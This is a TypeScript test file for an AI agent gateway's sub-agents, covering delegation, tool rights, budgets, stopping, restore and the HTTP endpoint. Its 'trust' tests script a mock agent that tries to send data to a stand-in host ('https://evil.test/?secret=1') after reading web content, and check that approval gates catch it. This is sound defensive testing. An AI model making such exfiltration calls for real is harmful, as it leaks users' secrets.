import { IDBFactory } from 'fake-indexeddb';
import { describe, expect } from 'vitest';
import { GatewayClient } from '#shared/client/client.ts';
import type { SubAgentEntry } from '#shared/rpc/record-schemas.ts';
import { webPort } from '#shared/ports/web-port.ts';
import { createCollection, toFile } from '../collections/fixture.ts';
import { createCapability, FakeBridge } from '../../../../tests/support/fake-bridge.ts';
import { isSubAgentSession } from '../../storage/session-views.ts';
import { verifies } from '../../../../tests/requirements.ts';
import { createTestGateway, type ModelCall, type ModelScript, type Say, waitFor } from '../../../../tests/support/test-gateway.ts';

/** Text of the message that a model answers. */
const readTask = ({ body }: ModelCall): string => {
  const { content } = body.messages.findLast(({ role }) => role === 'user') ?? {};
  return typeof content === 'string' ? content : '';
};
const readResults = ({ body }: ModelCall): string[] =>
  body.messages.filter(({ role }) => role === 'tool').map(({ content }) => content as string);

/** A call of `agent_run`. */
const delegate = (task: string, args: object = {}): Say => ({ tool: 'agent_run', args: { task, ...args } });

/** The first step of “Plan” calls sub-agents, the second one answers “All done”; `answer` answers the tasks. */
const toScript =
  (calls: readonly Say[], answer: (task: string, call: ModelCall) => readonly Say[]): ModelScript =>
  (call) => {
    const task = readTask(call);
    if (task !== 'Plan') return answer(task, call);
    return readResults(call).length === 0 ? calls : ['All done'];
  };

const parseResults = (call: ModelCall | undefined): Record<string, unknown>[] =>
  (call ? readResults(call) : []).map((text) => JSON.parse(text) as Record<string, unknown>);

describe('a sub-agent', () => {
  verifies(['subagents/context', 'subagents/list'], 'answers in a session of its own, which knows only its task', async () => {
    await using gw = await createTestGateway({
      model: toScript([delegate('Count the herons', { title: 'Herons' }), delegate('Count the reeds')], (task) => [`${task}: 3`]),
    });
    const { client, events } = await gw.client();
    await client.call('chat.send', { message: 'Plan' });
    const [, heron, reed, last] = gw.calls;
    expect([heron, reed].map((call) => call?.body.messages.map(({ role }) => role))).toEqual([
      ['system', 'user'],
      ['system', 'user'],
    ]);
    expect(JSON.stringify(heron?.body.messages)).toContain('You are a sub-agent');
    expect(parseResults(last)).toMatchObject([
      { status: 'done', answer: 'Count the herons: 3', tokens: expect.any(Number) as number },
      { status: 'done', answer: 'Count the reeds: 3' },
    ]);
    const { sessions } = await client.call('sessions.list', {});
    expect(sessions.map(({ sessionId }) => sessionId)).toEqual(['main']);
    const { subAgents } = await client.call('sessions.subAgents', { path: 'main/main.jsonl' });
    expect(subAgents).toMatchObject([
      { title: 'Herons', status: 'done', parentPath: 'main/main.jsonl', totalTokens: expect.any(Number) as number },
      { title: 'Count the reeds', status: 'done' },
    ]);
    const states = events
      .filter(({ event }) => event === 'chat.sub_agent')
      .map(({ payload }) => (payload as { subAgent: SubAgentEntry }).subAgent);
    expect(states.filter(({ title }) => title === 'Herons').map(({ status }) => status)).toEqual(['queued', 'running', 'done']);
    const { sessionId = '' } = subAgents[0] ?? {};
    // Memory and dreams leave these sessions out.
    expect(isSubAgentSession(`main/${sessionId}`)).toBe(true);
    const { messages } = await client.call('chat.history', { sessionId });
    expect(messages.map(({ role, content }) => [role, content])).toEqual([
      ['user', 'Count the herons'],
      ['assistant', 'Count the herons: 3'],
    ]);
    expect(gw.faults).toEqual([]);
  });

  verifies('subagents/parallel', 'works beside others, up to the limit', async () => {
    const gate = Promise.withResolvers<void>();
    let working = 0;
    let most = 0;
    await using gw = await createTestGateway({
      model: toScript(
        ['a', 'b', 'c'].map((task) => delegate(task)),
        (task) => {
          most = Math.max(most, ++working);
          void gate.promise.then(() => working--);
          return [{ wait: gate.promise }, task];
        },
      ),
    });
    const { client } = await gw.client();
    await client.call('agents.add', { agent_id: 'lead', config: { subAgents: { maxParallel: 2 } } });
    const sent = client.call('chat.send', { agentId: 'lead', message: 'Plan' });
    await waitFor(() => most === 2);
    await waitFor(async () => {
      const { subAgents } = await client.call('sessions.subAgents', { path: 'lead/main.jsonl' });
      return (
        subAgents
          .map(({ status }) => status)
          .sort()
          .join() === 'queued,running,running'
      );
    });
    gate.resolve();
    await sent;
    expect(most).toBe(2);
    expect(parseResults(gw.calls.at(-1)).map(({ answer }) => answer)).toEqual(['a', 'b', 'c']);
  });

  verifies('subagents/limits', 'cannot call others without end', async () => {
    const loop: ModelScript = (call) => (readResults(call).length === 0 ? [delegate('Again', { agent: call.body.model })] : ['End']);
    await using gw = await createTestGateway({
      model: (call, count) =>
        (readTask(call) === 'Plan' && count > 1 && readResults(call).length > 0 ? ['End'] : loop(call, count)).map((say) =>
          typeof say === 'object' && 'tool' in say ? delegate('Again') : say,
        ),
    });
    const { client } = await gw.client();
    await client.call('chat.send', { message: 'Plan' });
    const { subAgents } = await client.call('sessions.subAgents', { path: 'main/main.jsonl' });
    expect(subAgents).toHaveLength(2);
    const results = gw.calls.flatMap(readResults);
    expect(results[0]).toContain('Unknown tool');
    await client.call('agents.add', { agent_id: 'few', config: { subAgents: { maxTotal: 1 } } });
    await client.call('chat.send', { agentId: 'few', message: 'Plan' });
    expect(gw.calls.flatMap(readResults).join()).toContain('This reply has started all of its 1 sub-agents');
    expect(gw.faults).toEqual([]);
  });
});

describe('rights and costs', () => {
  verifies('subagents/rights', 'a sub-agent searches the collections of its chat, in the project of its chat', async () => {
    await using gw = await createTestGateway({
      model: toScript([delegate('Count')], (task, call) =>
        task === 'Count' && readResults(call).length === 0 ? [{ tool: 'collection_search', args: { query: 'herons' } }] : ['Done'],
      ),
    });
    const { client } = await gw.client();
    const { id } = await createCollection(client, [toFile('lake.md', 'Three herons live at the lake.')]);
    const { project } = await client.call('projects.create', { name: 'Lake', collections: [id] });
    await client.call('chat.send', { message: 'Hello', sessionId: 'lake' });
    await client.call('projects.addChats', { id: project.id, paths: ['main/lake.jsonl'] });
    await client.call('chat.send', { message: 'Plan', sessionId: 'lake' });
    expect(gw.calls.flatMap(readResults).join()).toContain('Three herons live at the lake.');
    const { project: after } = await client.call('projects.get', { id: project.id });
    expect(after.chats).toBe(1);
    const { subAgents } = await client.call('sessions.subAgents', { path: 'main/lake.jsonl' });
    expect((await gw.vault.sessions.list()).find(({ sessionId }) => sessionId === subAgents[0]?.sessionId)?.projectId).toBe(project.id);
    expect(gw.faults).toEqual([]);
  });

  verifies('subagents/rights', 'a sub-agent has no tool that its caller lacks', async () => {
    await using gw = await createTestGateway({
      model: toScript([delegate('Count', { agent: 'other', tools: ['current_*', 'docs_search', 'exec'] })], (_task, call) =>
        readResults(call).length === 0 ? [{ tool: 'docs_search', args: { query: 'sync' } }] : ['Done'],
      ),
    });
    const { client } = await gw.client();
    await client.call('agents.add', { agent_id: 'other', config: { tools: { deny: ['exec'] } } });
    await client.call('agents.add', { agent_id: 'lead', config: { tools: { deny: ['docs_*'] } } });
    await client.call('chat.send', { agentId: 'lead', message: 'Plan' });
    expect(parseResults(gw.calls.at(-1))[0]?.['error']).toBe(
      'The agent “lead” may not call the agent “other”. It may call copies of itself: leave out `agent`.',
    );
    await client.call('config.patch', { patch: { agents: { lead: { subAgents: { agents: ['other'] } } } } });
    await client.call('sessions.reset', { path: 'lead/main.jsonl' });
    await client.call('chat.send', { agentId: 'lead', message: 'Plan' });
    const child = gw.calls.find((call) => readTask(call) === 'Count');
    const names = (child?.body.tools as { function: { name: string } }[]).map((tool) => tool.function.name);
    expect(names).toEqual(['current_time']);
    expect(gw.calls.flatMap(readResults).join()).toContain('Unknown tool');
    expect(parseResults(gw.calls.at(-1))).toMatchObject([{ status: 'done', answer: 'Done' }]);
  });

  verifies('subagents/rights', 'the settings of an agent offer the tool, leave it to the search, or forbid it', async () => {
    await using gw = await createTestGateway({ model: toScript([delegate('a')], (task) => [task]) });
    const { client } = await gw.client();
    await client.call('agents.add', { agent_id: 'on', config: { subAgents: { enabled: true } } });
    await client.call('agents.add', { agent_id: 'off', config: { subAgents: { enabled: false } } });
    const isOffered = async (agentId: string): Promise<boolean> => {
      await client.call('chat.send', { agentId, message: 'Plan' });
      const first = gw.calls.findLast((call) => readTask(call) === 'Plan' && readResults(call).length === 0);
      return JSON.stringify(first?.body.tools).includes('"agent_run"');
    };
    expect([await isOffered('on'), await isOffered('main')]).toEqual([true, false]);
    expect(parseResults(gw.calls.at(-1))).toMatchObject([{ status: 'done' }]);
    expect(await isOffered('off')).toBe(false);
    expect(readResults(gw.calls.at(-1) as ModelCall).join()).toContain('Unknown tool');
  });

  verifies('subagents/model', 'a copy uses its caller’s model, a named agent its own', async () => {
    await using gw = await createTestGateway({
      model: toScript(
        [
          delegate('copy'),
          delegate('named', { agent: 'other' }),
          delegate('chosen', { model: 'test/c' }),
          delegate('none', { model: 'x/y' }),
        ],
        (task) => [task],
      ),
    });
    const { client } = await gw.client();
    await client.call('agents.add', { agent_id: 'other', config: { model: 'test/b' } });
    await client.call('config.patch', { patch: { agents: { main: { subAgents: { agents: ['*'] } } } } });
    await client.call('chat.send', { message: 'Plan', model: 'test/a' });
    const models = Object.fromEntries(gw.calls.map((call) => [readTask(call), call.body.model]));
    expect(models).toEqual({ Plan: 'a', copy: 'a', named: 'b', chosen: 'c' });
    expect(parseResults(gw.calls.at(-1))[3]).toMatchObject({ error: expect.stringContaining('x') as string });
  });

  verifies('subagents/budget', 'its own budget ends it, and it returns what it has', async () => {
    await using gw = await createTestGateway({
      model: toScript([delegate('Look', { budget: { tokens: 1 } })], () => ['Looking. ', { tool: 'docs_search', args: { query: 'sync' } }]),
    });
    const { client } = await gw.client();
    await client.call('chat.send', { message: 'Plan' });
    expect(parseResults(gw.calls.at(-1))).toMatchObject([
      {
        status: 'failed',
        answer: 'Looking. ',
        error: expect.stringMatching(/^The sub-agent’s budget is used up: [\d,]+ of 1 tokens\.$/) as string,
      },
    ]);
  });

  verifies('subagents/budget', 'it has to answer when most of its budget is used up', async () => {
    let budget = {};
    await using gw = await createTestGateway({
      model: (call) => {
        if (readTask(call) === 'Plan') return readResults(call).length === 0 ? [delegate('Look', budget)] : ['All done'];
        const isLast = JSON.stringify(call.body.messages).includes('Most of your budget is used up.');
        if (isLast || readResults(call).length > 1) return [isLast ? 'Found two' : 'Found all'];
        return ['Looking. ', { tool: 'docs_search', args: { query: `sync ${readResults(call).length}` } }];
      },
    });
    const { client, events } = await gw.client();
    await client.call('chat.send', { message: 'Plan' });
    expect(parseResults(gw.calls.at(-1))).toMatchObject([{ answer: 'Found all' }]);
    const states = events.flatMap(({ event, payload }) => (event === 'chat.sub_agent' ? [payload as { subAgent: SubAgentEntry }] : []));
    const firstStep = states.find(({ subAgent }) => subAgent.activity === 'docs_search')?.subAgent.totalTokens ?? 0;
    budget = { budget: { tokens: Math.round(firstStep / 0.9) } };
    await client.call('chat.send', { message: 'Plan', sessionId: 'next' });
    expect(parseResults(gw.calls.at(-1))).toMatchObject([{ status: 'done', answer: 'Found two' }]);
  });

  verifies(['subagents/budget', 'subagents/cost'], 'it counts for its caller’s budgets, and once in the totals', async () => {
    await using gw = await createTestGateway({
      model: toScript([delegate('a'), delegate('b')], (task) => [task]),
    });
    const { client } = await gw.client();
    const { usage, messageId } = await client.call('chat.send', { message: 'Plan' });
    const { totalTokens } = await client.call('usage.get', {});
    expect(totalTokens).toBe(usage?.totalTokens);
    const { messages } = await client.call('chat.history', { sessionId: 'main' });
    expect(messages.find(({ id }) => id === messageId)?.usage).toEqual(usage);
    const { budget } = await client.call('budgets.set', { scope: 'chat:main/main', limits: { day: { tokens: 1_000_000 } } });
    expect(budget?.gauges).toMatchObject([{ used: usage?.totalTokens }]);
    const limit = (usage?.totalTokens ?? 0) + 1;
    await client.call('budgets.set', { scope: 'agent:main', limits: { day: { tokens: limit } } });
    await expect(client.call('chat.send', { sessionId: 'next', message: 'Plan' })).rejects.toMatchObject({ code: 'RATE_LIMITED' });
    const { subAgents: stopped } = await client.call('sessions.subAgents', { path: 'main/next.jsonl' });
    expect(stopped.map(({ status }) => status)).toEqual(['failed', 'failed']);
  });
});

describe('control', () => {
  verifies('subagents/stop', 'stopping the reply stops them', async () => {
    const never = new Promise(() => {});
    await using gw = await createTestGateway({
      model: toScript([delegate('a'), delegate('b')], (task) => [`${task}… `, { wait: never }]),
    });
    const { client } = await gw.client();
    const sent = client.call('chat.send', { message: 'Plan' }).catch((error: unknown) => error);
    await waitFor(() => gw.calls.length === 3);
    await client.call('chat.abort', { sessionId: 'main' });
    expect(await sent).toMatchObject({ code: 'ABORTED' });
    await waitFor(async () => {
      const { subAgents } = await client.call('sessions.subAgents', { path: 'main/main.jsonl' });
      return subAgents.every(({ status }) => status === 'stopped');
    });
    expect(gw.calls.slice(1).every(({ signal }) => signal.aborted)).toBe(true);
    expect(gw.faults).toEqual([]);
  });

  verifies(['subagents/stop', 'subagents/steer'], 'a person stops one, and writes to another', async () => {
    const never = new Promise(() => {});
    await using gw = await createTestGateway({
      model: toScript([delegate('a', { tools: ['current_time'] }), delegate('b')], (task) =>
        task === 'a' || task === 'b' ? [`${task}… `, { wait: never }] : ['Steered'],
      ),
    });
    const { client } = await gw.client();
    const sent = client.call('chat.send', { message: 'Plan' });
    await waitFor(() => gw.calls.length === 3);
    const { subAgents } = await client.call('sessions.subAgents', { path: 'main/main.jsonl' });
    const [a, b] = ['a', 'b'].map((name) => subAgents.find(({ title }) => title === name)?.sessionId);
    const program = await GatewayClient.connect(gw.link({ principal: 'key:k' }), { params: { clientName: 'program' } });
    await expect(program.call('chat.send', { sessionId: a ?? '', message: 'Leave' })).rejects.toMatchObject({ code: 'AUTH_REQUIRED' });
    await client.call('chat.abort', { sessionId: b ?? '' });
    await client.call('chat.send', { sessionId: a ?? '', message: 'Stop counting', steer: true });
    await sent;
    expect(parseResults(gw.calls.at(-1))).toMatchObject([
      { status: 'done', answer: 'Steered' },
      { status: 'stopped', answer: 'b… ', error: 'Stopped by the person.' },
    ]);
    const steered = gw.calls.find((call) => readTask(call) === 'Stop counting');
    expect((steered?.body.tools as { function: { name: string } }[]).map((tool) => tool.function.name)).toEqual(['current_time']);
    expect(JSON.stringify(steered?.body.messages)).toContain('You are a sub-agent');
  });

  verifies('subagents/context', 'an earlier one continues with what it knows', async () => {
    let id = '';
    await using gw = await createTestGateway({
      model: (call) => {
        const task = readTask(call);
        if (task === 'Plan') return readResults(call).length === 0 ? [delegate('Count')] : ['Done'];
        if (task !== 'Go on') return [`Answer to ${task}`];
        const results = readResults(call);
        if (results.length === 1) {
          id = String(parseResults(call)[0]?.['id']);
          return [delegate('Count again', { continue: id }), delegate('Count', { continue: 'none' })];
        }
        return ['Done'];
      },
    });
    const { client } = await gw.client();
    await client.call('chat.send', { message: 'Plan' });
    await client.call('chat.send', { message: 'Go on' });
    const again = gw.calls.find((call) => readTask(call) === 'Count again');
    expect(again?.body.messages.map(({ content }) => content).slice(1)).toEqual(['Count', 'Answer to Count', 'Count again']);
    expect(parseResults(gw.calls.at(-1)).slice(1)).toMatchObject([
      { id, status: 'done', answer: 'Answer to Count again' },
      { error: 'This chat has no sub-agent "none" of that agent.' },
    ]);
  });
});

describe('with its chat', () => {
  verifies('subagents/delete', 'it is deleted, restored and exported', async () => {
    await using gw = await createTestGateway({ model: toScript([delegate('a'), delegate('b')], (task) => [`${task}!`]) });
    const { client } = await gw.client();
    await client.call('chat.send', { message: 'Plan' });
    const path = 'main/main.jsonl';
    const { content } = await client.call('sessions.export', { path, format: 'markdown' });
    expect(content).toMatch(/# Plan[^]*All done[^]*# a\n[^]*a![^]*# b\n[^]*b!/);
    const before = await client.call('sessions.subAgents', { path });
    const { trashId } = await client.call('sessions.delete', { path });
    expect(await gw.vault.sessions.list()).toEqual([]);
    expect((await client.call('trash.list', {})).items).toHaveLength(1);
    await client.call('chat.send', { message: 'New' });
    const restored = await client.call('trash.restore', { id: trashId ?? '' });
    expect(restored.path).not.toBe(path);
    const after = await client.call('sessions.subAgents', { path: restored.path });
    expect(after.subAgents.map(({ sessionId, title }) => [sessionId, title])).toEqual(
      before.subAgents.map(({ sessionId, title }) => [sessionId, title]),
    );
    const { messages } = await client.call('chat.history', { sessionId: after.subAgents[0]?.sessionId ?? '' });
    expect(messages.map(({ content }) => content)).toEqual(['a', 'a!']);
    await client.call('sessions.reset', { path: restored.path });
    expect((await gw.vault.sessions.list()).map(({ title }) => title).sort()).toEqual(['New', 'Plan']);
    expect(gw.faults).toEqual([]);
  });

  verifies('subagents/interrupted', 'results are kept if the host dies, and those that worked are interrupted', async () => {
    const [indexedDB, name, never] = [new IDBFactory(), 'sub-agents-interrupted', new Promise(() => {})];
    let isAgain = false;
    const model = toScript([delegate('a'), delegate('b')], (task, call) => {
      if (task === 'Go on') return readResults(call).length === 2 ? [delegate('b')] : ['All done'];
      return task === 'a' ? ['a!'] : isAgain ? ['b!'] : ['b… ', { wait: never }];
    });
    {
      const gw = await createTestGateway({ model, indexedDB, name });
      const { client, events } = await gw.client();
      client.call('chat.send', { message: 'Plan' }).catch(() => {});
      await waitFor(() => events.some(({ event }) => event === 'chat.tool_result'));
      await gw.gateway.close();
    }
    await using gw = await createTestGateway({ model, indexedDB, name });
    const { client } = await gw.client();
    const { subAgents } = await client.call('sessions.subAgents', { path: 'main/main.jsonl' });
    expect(subAgents.map(({ title, status }) => [title, status])).toEqual([
      ['a', 'done'],
      ['b', 'interrupted'],
    ]);
    const { messages } = await client.call('chat.history', { sessionId: 'main' });
    expect(messages.map(({ role, interrupted }) => [role, interrupted])).toEqual([
      ['user', undefined],
      ['assistant', undefined],
      ['tool', undefined],
      ['tool', undefined],
      ['assistant', true],
    ]);
    expect(messages[2]?.content).toContain('a!');
    // The same task continues where it was.
    isAgain = true;
    await client.call('chat.send', { message: 'Go on' });
    const after = (await client.call('sessions.subAgents', { path: 'main/main.jsonl' })).subAgents;
    expect(after.map(({ sessionId, status }) => [sessionId, status]).sort()).toEqual(
      subAgents.map(({ sessionId }) => [sessionId, 'done']).sort(),
    );
    expect(parseResults(gw.calls.at(-1)).at(-1)).toMatchObject({ id: subAgents[1]?.sessionId, answer: 'b!' });
  });
});

describe('trust', () => {
  /** A page, whose text contains an address. */
  const web = createCapability(webPort, {
    'web.fetch': ({ url }) =>
      Promise.resolve({ url, status: 200, contentType: 'text/plain', body: btoa('Buy tulips at https://pages.test/tulips.') }),
  });
  const policies = { web_fetch: 'auto', file_write: 'auto' };

  verifies('subagents/taint', 'what it reads is known to its caller, whose changes then wait', async () => {
    await using gw = await createTestGateway({
      bridge: new FakeBridge(web),
      model: (call) => {
        const results = readResults(call);
        if (readTask(call) === 'Read')
          return results.length === 0
            ? [{ tool: 'web_fetch', args: { url: 'https://pages.test/news' } }]
            : ['See https://pages.test/tulips and https://evil.test/?secret=1'];
        if (results.length === 0) return [delegate('Read')];
        return results.length === 1
          ? [{ tool: 'file_write', args: { path: 'MEMORY.md', content: 'x' } }]
          : ['Done: https://pages.test/tulips https://evil.test/?secret=1'];
      },
    });
    const { client } = await gw.client();
    await client.call('config.patch', { patch: { tools: { policies } } });
    const sent = client.call('chat.send', { message: 'Plan https://pages.test/news' });
    await waitFor(async () => (await client.call('approvals.list', {})).count === 1);
    const { approvals } = await client.call('approvals.list', {});
    expect(approvals).toMatchObject([{ tool: 'file_write', outside: ['web:pages.test'], sessionId: 'main' }]);
    await client.call('approvals.resolve', { id: approvals[0]?.id ?? '', decision: 'deny' });
    const { messageId } = await sent;
    const { messages } = await client.call('chat.history', { sessionId: 'main' });
    expect(messages.find(({ id }) => id === messageId)).toMatchObject({
      outside: ['web:pages.test'],
      quotedUrls: ['https://pages.test/tulips'],
    });
  });

  verifies(
    ['subagents/taint', 'subagents/approval'],
    'it starts with what its caller has read, and an address composed there is not read',
    async () => {
      const composed = 'https://evil.test/?secret=1';
      await using gw = await createTestGateway({
        bridge: new FakeBridge(web),
        model: (call) => {
          const results = readResults(call);
          if (readTask(call).startsWith('Write'))
            return results.length === 0
              ? [
                  { tool: 'file_write', args: { path: 'MEMORY.md', content: 'x' } },
                  { tool: 'web_fetch', args: { url: composed } },
                  { tool: 'web_fetch', args: { url: 'https://pages.test/tulips' } },
                ]
              : ['Done'];
          if (results.length === 0) return [{ tool: 'web_fetch', args: { url: 'https://pages.test/news' } }];
          return results.length === 1 ? [delegate(`Write ${composed} https://pages.test/tulips`)] : ['Done'];
        },
      });
      const { client } = await gw.client();
      await client.call('config.patch', { patch: { tools: { policies } } });
      const sent = client.call('chat.send', { message: 'Plan https://pages.test/news' });
      await waitFor(async () => (await client.call('approvals.list', {})).count === 2);
      const { approvals } = await client.call('approvals.list', {});
      expect(approvals.map(({ tool, args }) => [tool, args['url']]).sort()).toEqual([
        ['file_write', undefined],
        ['web_fetch', composed],
      ]);
      const { subAgents } = await client.call('sessions.subAgents', { path: 'main/main.jsonl' });
      for (const approval of approvals) {
        expect(approval).toMatchObject({
          sessionId: subAgents[0]?.sessionId,
          subAgent: { chat: 'main/main.jsonl' },
          outside: ['web:pages.test'],
        });
        await client.call('approvals.resolve', { id: approval.id, decision: 'deny' });
      }
      await sent;
    },
  );
});

describe('over /v1', () => {
  verifies('subagents/http', 'an agent hands out tasks; usage is the sum, and nothing is stored', async () => {
    await using gw = await createTestGateway({ model: toScript([delegate('a'), delegate('b')], (task) => [`${task}!`]) });
    const { client } = await gw.client();
    const body = { model: 'perch/main', messages: [{ role: 'user', content: 'Plan' }] };
    const request = (signal?: AbortSignal): Request =>
      new Request('http://perch.test/v1/chat/completions', {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify(body),
        ...(signal ? { signal } : {}),
      });
    const response = await gw.gateway.fetch(request(), { id: 'owner', scopes: ['admin'] });
    const answer = (await response.json()) as { usage: { total_tokens: number }; choices: { message: { content: string } }[] };
    expect(answer.choices[0]?.message.content).toBe('All done');
    expect(parseResults(gw.calls.at(-1))).toMatchObject([{ status: 'done', answer: 'a!' }, { answer: 'b!' }]);
    expect(answer.usage.total_tokens).toBe((await client.call('usage.get', {})).totalTokens);
    expect(await gw.vault.sessions.list()).toEqual([]);
    expect(gw.faults).toEqual([]);
  });

  verifies('subagents/http', 'they end when the client disconnects', async () => {
    const never = new Promise(() => {});
    await using gw = await createTestGateway({ model: toScript([delegate('a'), delegate('b')], () => [{ wait: never }]) });
    const abort = new AbortController();
    const body = { model: 'perch/main', stream: true, messages: [{ role: 'user', content: 'Plan' }] };
    const sent = gw.gateway
      .fetch(
        new Request('http://perch.test/v1/chat/completions', {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify(body),
          signal: abort.signal,
        }),
        { id: 'owner', scopes: ['admin'] },
      )
      .then(async (response) => response.text())
      .catch(() => {});
    await waitFor(() => gw.calls.length === 3);
    abort.abort();
    await waitFor(() => gw.calls.slice(1).every(({ signal }) => signal.aborted));
    await sent;
  });
});
